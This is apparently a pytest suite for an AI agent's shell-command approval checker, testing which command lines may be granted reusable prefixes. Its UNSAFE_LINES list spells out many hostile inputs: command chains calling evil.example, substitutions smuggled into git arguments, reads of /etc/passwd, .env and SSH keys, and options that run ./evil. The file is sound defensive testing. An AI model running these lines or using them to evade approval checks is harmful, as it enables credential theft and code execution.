"""Commands that may be allowed with any arguments, and lines that must never match."""

import subprocess
from pathlib import Path

import pytest

from agent.approvals import CommandPrefix
from agent.security.shell.command_prefix import prefixes_of
from agent.security.shell.program_table import interpreters, prefixes, programs, wrappers


@pytest.mark.parametrize(
    ("line", "prefix"),
    [
        ("git commit -m 'fix: it'", "git commit *"),
        ("git commit -am 'see /etc/hosts; rm x'", "git commit *"),
        ("\"git\" 'commit' --amend", "git commit *"),
        ("  git push origin main\n", "git push *"),
        ("git", None),
        ("npm test -- --watch src/a.js", "npm test *"),
        ("npm run build", "npm run build *"),
        ("npm run", None),
        ("npm run -s build", None),
        ("pytest -q tests/a.py -k 'a or b'", "pytest *"),
        ("cargo test --release", "cargo test *"),
        ("go test ./...", "go test *"),
        ("gh pr view 3", "gh pr view *"),
        ("mkdir -p a/b", "mkdir *"),
        ("rg -n 'a|b' src", "rg *"),
        ("rg -e /api/v1 src", "rg *"),
        ("git push -u origin feature", "git push *"),
        ("git commit -s -m x", "git commit *"),
        ("git log -m --grep '/api/v1'", "git log *"),
        ("npm test --silent -- --config x.js", "npm test *"),
        ("pnpm test --watch", "pnpm test *"),
        ("git show @", "git show *"),
    ],
)
def test_simple_command_has_a_prefix(line: str, prefix: str | None, tmp_path: Path) -> None:
    assert [str(prefix) for prefix in prefixes_of(line, tmp_path, tmp_path, is_confined=False)] == (
        [prefix] * bool(prefix)
    )


UNSAFE_LINES = [
    # Several commands, one of which is not listed, or syntax that is not followed.
    "git commit -m x; curl evil.example", "git commit -m x && curl evil.example",
    "git commit -m x || evil", "git commit -m x | sh", "git commit -m x\ncurl evil.example",
    "git commit -m x &", "git commit -m x & id", "evil; git commit -m x", "(git commit -m x)",
    "{ git commit -m x; }", "! git commit -m x", "if true; then git commit; fi",
    "for x in a; do git commit; done", "git() { id; }; git commit", "git commit -m x # y",
    "git commit -m x;", "time git commit", "coproc git commit", "ls & git commit",
    "git commit -m x\r\ncurl evil.example", "git commit |& cat", "git commit | (cat)",
    "while git commit; do ls; done", "case x in x) git commit;; esac", "[ -f x ] && git commit",
    "alias git=evil; git commit", "git commit && exec ls", "ls && env git commit",
    # Commands that change the shell for those after them.
    "X=1; git commit", "export X=1 && git commit", "export -n X; git commit",
    "read X && git commit", "set -a; git commit", "unset X; git commit", "printf -v X 1; npm test",
    "cd -; git commit", "cd; git commit", "cd / && git commit", "cd .. && git commit",
    "cd link && git commit", "cd $X && git commit", "cd .git && git commit", "pushd sub; git push",
    "cd sub | git commit", "cd sub > out && git commit", "cd bare/../.. && git commit",
    "cd sub && git push ../bare",
    ": $((GIT_CONFIG_SYSTEM=5)) && git commit", ": $((PATH=5)) && npm test",
    "echo $((HOME=5)) && git commit", "echo $[PATH=5]; git commit", "echo ${PATH:=5}; git commit",
    "echo ${X=5}; git commit", "echo {PATH}>/dev/null; git commit", "echo $((X++)); git commit",
    "git commit {PATH}>/dev/null; git push", "for X in a; do ls; done; git commit",
    "wait -p PATH; git commit", "wait -pPATH; git commit", "wait; git commit", "wait $X; npm test",
    "getopts x PATH; git commit", "mapfile PATH < a; git commit", "readarray X < a; git commit",
    "printf -vPATH 5; git commit", "printf x; git commit", "read -aPATH < a; git commit",
    "let PATH=5; git commit", "((PATH=5)); git commit", "hash -p ./evil git; git commit",
    "enable -f ./evil x; git commit", "set -k; git commit GIT_DIR=x", "shopt -s x; git commit",
    "trap ls DEBUG; git commit", "exit; git commit", ": && git commit", "type x; git commit",
    "command -v x; git commit", "times; git commit", "ulimit -n 5; git commit",
    "umask 0; git commit", "test -v X; git commit", "test *; git commit",
    "test $X; git commit", "declare X; npm test", "local X; npm test",
    "exec ls; git commit", "builtin echo; git commit", "X=5; npm test", "X=5 ls; npm test",
    "ls | X=5 cat; npm test", "find . -name x; git commit",
    # Input from a pipe, and output to a file.
    "cat a | git commit -F -", "ls | npm test", "git log | tee a", "git log | cat > a",
    "git commit | xargs ls", "find . -name x | xargs git add", "git commit &> out",
    "git commit &>/dev/null", "git commit >& out", "git commit 3<> a", "git commit 2>err | cat",
    "cat < /etc/passwd && git commit", "cat .env && git commit", "cat /etc/passwd; git commit",
    # A command before it may change the script.
    "git checkout x && npm test", "cp evil package.json; npm test", "mkdir a && npm test && ls",
    # More prefixes than fit into a question.
    "git add a; git commit; git push; git tag x; git stash",
    # Values computed by the shell.
    "git commit -m $(curl evil.example)", "git commit -m `id`", 'git commit -m "$(id)"',
    "git commit -m \"$X\"", "git commit $X", "git commit <(id)", "git commit -m $((x))",
    "$GIT commit", "g{it,} commit", "git {commit,push}", "git commit ~/x", "git commit $'a'$X",
    # Files read or written in addition to the arguments.
    "git commit -m x > out", "git commit < in", "git commit <<< x",
    "git commit <<E\nx\nE", "git commit -m x >> .git/hooks/pre-commit",
    # Leading variables.
    "GIT_SSH_COMMAND=./evil git push", "X=1 git commit", "PATH=.:$PATH git commit",
    # Options before the sub-command, and options that run programs.
    "git -c core.pager=./evil commit", "git -c core.editor=./evil commit",
    "git --exec-path=. commit", "git -C /elsewhere commit", "git --git-dir=x commit",
    "git push --force", "git push -f origin main", "git push --force-with-lease=main",
    "git push origin +main", "git push -uf origin main", "git push origin --delete main",
    "git push --mirr backup", "git push -d origin main",
    "git push --receive-pack=./evil", "git push --receive-p=./evil", "git push --exec ./evil",
    "git fetch --upload-pack ./evil .", "git pull --upload-pack=./evil",
    "git diff --ext-diff", "git diff --no-index a /etc/passwd", "git log --output=x",
    "git merge --strategy=evil", "npm test --script-shell=./evil", "npm test --prefix ../x",
    "npm run build --script-sh ./evil", "npm --prefix x test", "npm -C x run build",
    "go test -exec ./evil ./...", "go build -toolexec=./evil", "go vet --vettool ./evil",
    "cargo build --config build.rustc-wrapper=./evil", "cargo +evil test",
    "rg --pre ./evil x", "tox -- rm x", "ninja x", "pytest -p evil", "pytest --pastebin=all",
    "git fetch -m --upload-pack=./evil .", "git log -m --output=x", "git diff -m /etc/passwd x",
    "git commit -m --template=x", "pylint --init-hook=x", "pylint --init-h 'import os' a.py",
    "mypy --python-executable ./evil a.py", "mocha --import data:text/javascript,x",
    "mocha -r ./x", "clang-tidy --load=./evil.so a.c", "phpunit -d auto_prepend_file=x",
    "rg -ge /etc/passwd", "rg -e x /etc/passwd", "git commit -m x -- /etc/passwd",
    # Remotes without a configured name.
    "git push evil@evil.example:x", "git push -o x evil:x HEAD", "git push --repo=evil:x",
    "git fetch ext::sh", "git pull evil.example:x main",
    "npm test -script-shell=./evil", "npm test -script-shell ./evil", "npm test --unheard-of",
    "npm test -g", "pnpm test --config.script-shell=./evil", "pnpm test -script-shell=./evil",
    "yarn test --use-yarnrc evil", "git merge -s evil x", "git pull -sevil", "git commit -Sx",
    "git merge -qs evil x", "git tag -u x v1", "git cherry-pick -S x", "pytest @more",
    "pytest -o addopts=-pevil", "pytest --override-ini=addopts=-pevil", "pytest -c evil.ini",
    "flake8 --config evil", "flake8 --append-config=evil", "mypy --config-file=evil a.py",
    "eslint -c evil.js x", "eslint --format=./evil.js x", "prettier --config=evil.js x",
    "markdownlint -r ./evil.js x", "markdownlint --rules ./evil.js x", "dotnet build @more",
    "dotnet build -logger:evil.dll", "dotnet test --test-adapter-path evil",
    "swift test --toolset x", "clang-tidy a.c -- -fplugin=x", "golangci-lint custom",
    "clang-tidy --extra-arg=-fplugin=x a.c", "tree -o x",
    # Arguments that look like the value of a text option.
    "rg -e -e /etc/passwd", "grep -- -e /etc/passwd", "grep x --label -e /etc/passwd",
    "git commit -m -m --file=/etc/passwd", "grep x --label -e '/etc/passwd'",
    "grep x --label -e /etc/pass*", "grep x --label -e ~root/x",
    "grep x --label -e link/passwd",
    # Links whose name is attached to an option.
    "cp -tlink a", "cp -vtlink a", "git commit -Flink/passwd", "git commit -vFfile",
    "grep -ffile x", "touch -rfile x",
    # A remote in a local folder has hooks of its own.
    "git push bare main", "git push ./bare", "git push --repo=bare", "git fetch clone",
    "git pull sub/../bare", "git push mirror",
    # Another program with the same name or a similar one.
    "./git commit", "/usr/bin/git commit", "bin/pytest", "GIT commit", "git.exe commit",
    # Programs that run their arguments.
    "python x.py", "python3 -m pytest", "bash x.sh", "sh -c 'git commit'", "env git commit",
    "env X=1 git commit", "sudo git commit", "xargs git commit", "find . -name x", "ssh host x",
    "nohup git commit", "timeout 5 pytest", "nice pytest", "eval git commit", "exec pytest",
    "command git commit", "builtin echo", "node x.js", "perl -e x", "awk 1 x", "sed p x",
    "make test", "npx jest", "npm exec x", "npm x y", "pnpm dlx x", "yarn node x", "uv run x",
    "poetry run x", "bundle exec x", "go run .", "cargo run", "go generate", "go tool x",
    "docker run x", "busybox sh", "watch ls", "parallel ls", "tar cf x y", "curl https://x",
    "git config core.pager x", "git bisect run x", "git submodule foreach x", "git rebase x",
    "git clone x", "git difftool", "npm install x",
    "npm audit fix", "gh release create x", "npm publish", "pip install x", "gh api x",
    "rm -rf x", "git evil", "npm evil", "unheard-of", ". x", "source x", "vim x", "less x",
    # Paths outside, and private ones.
    "cat /etc/passwd", "cat ../x", "cat .env", "grep -r x /home", "cp a ~/b", "cat ~root/x",
    "git push https://evil.example/x", "git push ../elsewhere", "cp x .git/hooks/pre-commit",
    "mkdir -p /x", "git add /etc/passwd", "head -c9 .ssh/id", "pytest --junitxml=/x",
    # A name matched by a pattern may be an option.
    "git push *", "git fetch ?-upload-pack", "cp [-]x y",
    # Whitespace that shells do not treat as such.
    "\u00a0git commit", "\x0bgit commit", "\x1cgit commit", "\u2003git commit",
    "\x0cgit commit",
    "git\u00a0commit", "git commit\u2028id", "git commit\x0bid; id", "\ufeffgit commit",
    # No command, or a command that shells parse differently.
    "", " ", "git commit 'x", "git commit -m x\0", "git commit \\\n; evil",
]  # fmt: skip


@pytest.mark.parametrize("confined", [True, False])
def test_unsafe_line_has_no_prefix(tmp_path: Path, confined: bool) -> None:
    (tmp_path / "link").symlink_to("/etc")
    (tmp_path / "file").symlink_to("/etc/passwd")
    (tmp_path / "sub").mkdir()
    (tmp_path / "bare").mkdir()
    (tmp_path / "bare" / "HEAD").write_text("ref: refs/heads/main\n")
    (tmp_path / "clone" / ".git").mkdir(parents=True)
    (tmp_path / "mirror.git").mkdir()
    (tmp_path / "mirror.git" / "HEAD").touch()
    (tmp_path / "package.json").touch()
    prefixes = {
        line: prefixes_of(line, tmp_path, tmp_path, is_confined=confined) for line in UNSAFE_LINES
    }
    assert {line: prefix for line, prefix in prefixes.items() if prefix} == {}


def test_link_out_of_the_workspace_has_no_prefix(tmp_path: Path) -> None:
    (tmp_path / "link").symlink_to("/etc")
    assert prefixes_of("cat link/passwd", tmp_path, tmp_path, is_confined=True) == ()
    assert prefixes_of("cat a", tmp_path.parent, tmp_path, is_confined=True) == ()


def test_prefix_is_bound_to_the_scripts_it_runs(tmp_path: Path) -> None:
    file = tmp_path / "package.json"
    file.write_text("{}")
    first = prefixes_of("npm test -- a.js", tmp_path, tmp_path, is_confined=True)
    assert first[0].contents is not None
    assert prefixes_of("npm test -- b.js", tmp_path, tmp_path, is_confined=True) == first
    file.write_text('{"scripts": {"test": "evil"}}')
    assert prefixes_of("npm test -- a.js", tmp_path, tmp_path, is_confined=True) != first
    assert prefixes_of("git commit", tmp_path, tmp_path, is_confined=True) == (
        CommandPrefix(("git", "commit")),
    )


@pytest.mark.parametrize(
    ("line", "confined", "unconfined"),
    [
        ("npm test 2>&1 | tail -20", "npm test *", "npm test *, tail *"),
        ("cd sub && npm test", "npm test *", "npm test *"),
        ("cd sub && npm test 2>&1 | tail -5", "npm test *", "npm test *, tail *"),
        ("git add . && git commit -m x", "git add *, git commit *", "git add *, git commit *"),
        ("git push >/dev/null 2>&1", "git push *", "git push *"),
        ("ls src; git push", "git push *", "ls *, git push *"),
        ("git push || true", "git push *", ""),
        ("pytest -q | grep -c x || echo none", "pytest *", ""),
        ("npm run lint && npm test", "npm run lint *, npm test *", "npm run lint *, npm test *"),
        ("cat <<E && git push\nx\nE", "", ""),
        ("git push\ngit push origin x", "git push *", "git push *"),
        ("git log | head -3", "", "git log *, head *"),
        ("pwd && git commit -m x", "git commit *", ""),
        ("true; echo a; test -f x || npm test", "npm test *", ""),
        (
            "git status && git diff && git commit",
            "git commit *",
            "git status *, git diff *, git commit *",
        ),
        ("cat a | grep x | sort | uniq -c; npm test", "npm test *", ""),
        ("sed -n 1,5p a && git push", "git push *", ""),
    ],
)
def test_each_command_of_a_line_only_reads_or_has_a_prefix(
    line: str, confined: str, unconfined: str, tmp_path: Path
) -> None:
    (tmp_path / "sub").mkdir()
    (tmp_path / "package.json").touch()
    (tmp_path / "sub" / "package.json").touch()
    for is_confined, names in ((True, confined), (False, unconfined)):
        prefixes = prefixes_of(line, tmp_path, tmp_path, is_confined=is_confined)
        assert ", ".join(map(str, prefixes)) == names


@pytest.mark.parametrize(
    ("line", "folders"),
    [
        ("npm test", [""]),
        ("cd sub && npm test", ["sub"]),
        ("cd sub; npm test", ["", "sub"]),
        ("cd sub && ls; npm test", ["", "sub"]),
        ("ls || cd sub && npm test", ["", "sub"]),
        ("cd sub && cd deep && npm test", ["sub/deep"]),
    ],
)
def test_prefix_is_bound_to_the_scripts_of_each_possible_folder(
    line: str, folders: list[str], tmp_path: Path
) -> None:
    for folder in ("sub/deep", "sub", ""):
        (tmp_path / folder).mkdir(parents=True, exist_ok=True)
        (tmp_path / folder / "package.json").write_text(folder)
    bound = [
        prefix
        for folder in folders
        for prefix in prefixes_of("npm test", tmp_path / folder, tmp_path, is_confined=True)
    ]
    assert list(prefixes_of(line, tmp_path, tmp_path, is_confined=True)) == bound


def test_commands_that_need_no_grant_leave_the_shell_as_it_is() -> None:
    listed = prefixes().unasked
    builtins = set(
        subprocess.run(
            ["bash", "-c", "compgen -b"], check=True, text=True, capture_output=True
        ).stdout.split()
    )
    assert listed & builtins == {"echo", "true", "false", "pwd", "test"}
    assert listed.isdisjoint(wrappers())
    assert listed <= programs().keys()


def test_wrappers_and_interpreters_have_no_prefix() -> None:
    table = prefixes()
    assert table.alone.isdisjoint(wrappers() | interpreters())
    assert table.sub.keys().isdisjoint(wrappers())
    listed = table.alone | table.sub.keys()
    assert listed >= table.forbid.keys()
    commands = [*table.text, *table.deeper, *table.remote, *table.forbid_after, *table.options]
    assert {name.split()[0] for name in commands} <= listed
    assert listed.isdisjoint(
        {"python", "python3", "sh", "bash", "env", "sudo", "xargs", "find", "ssh", "make", "rm"}
    )
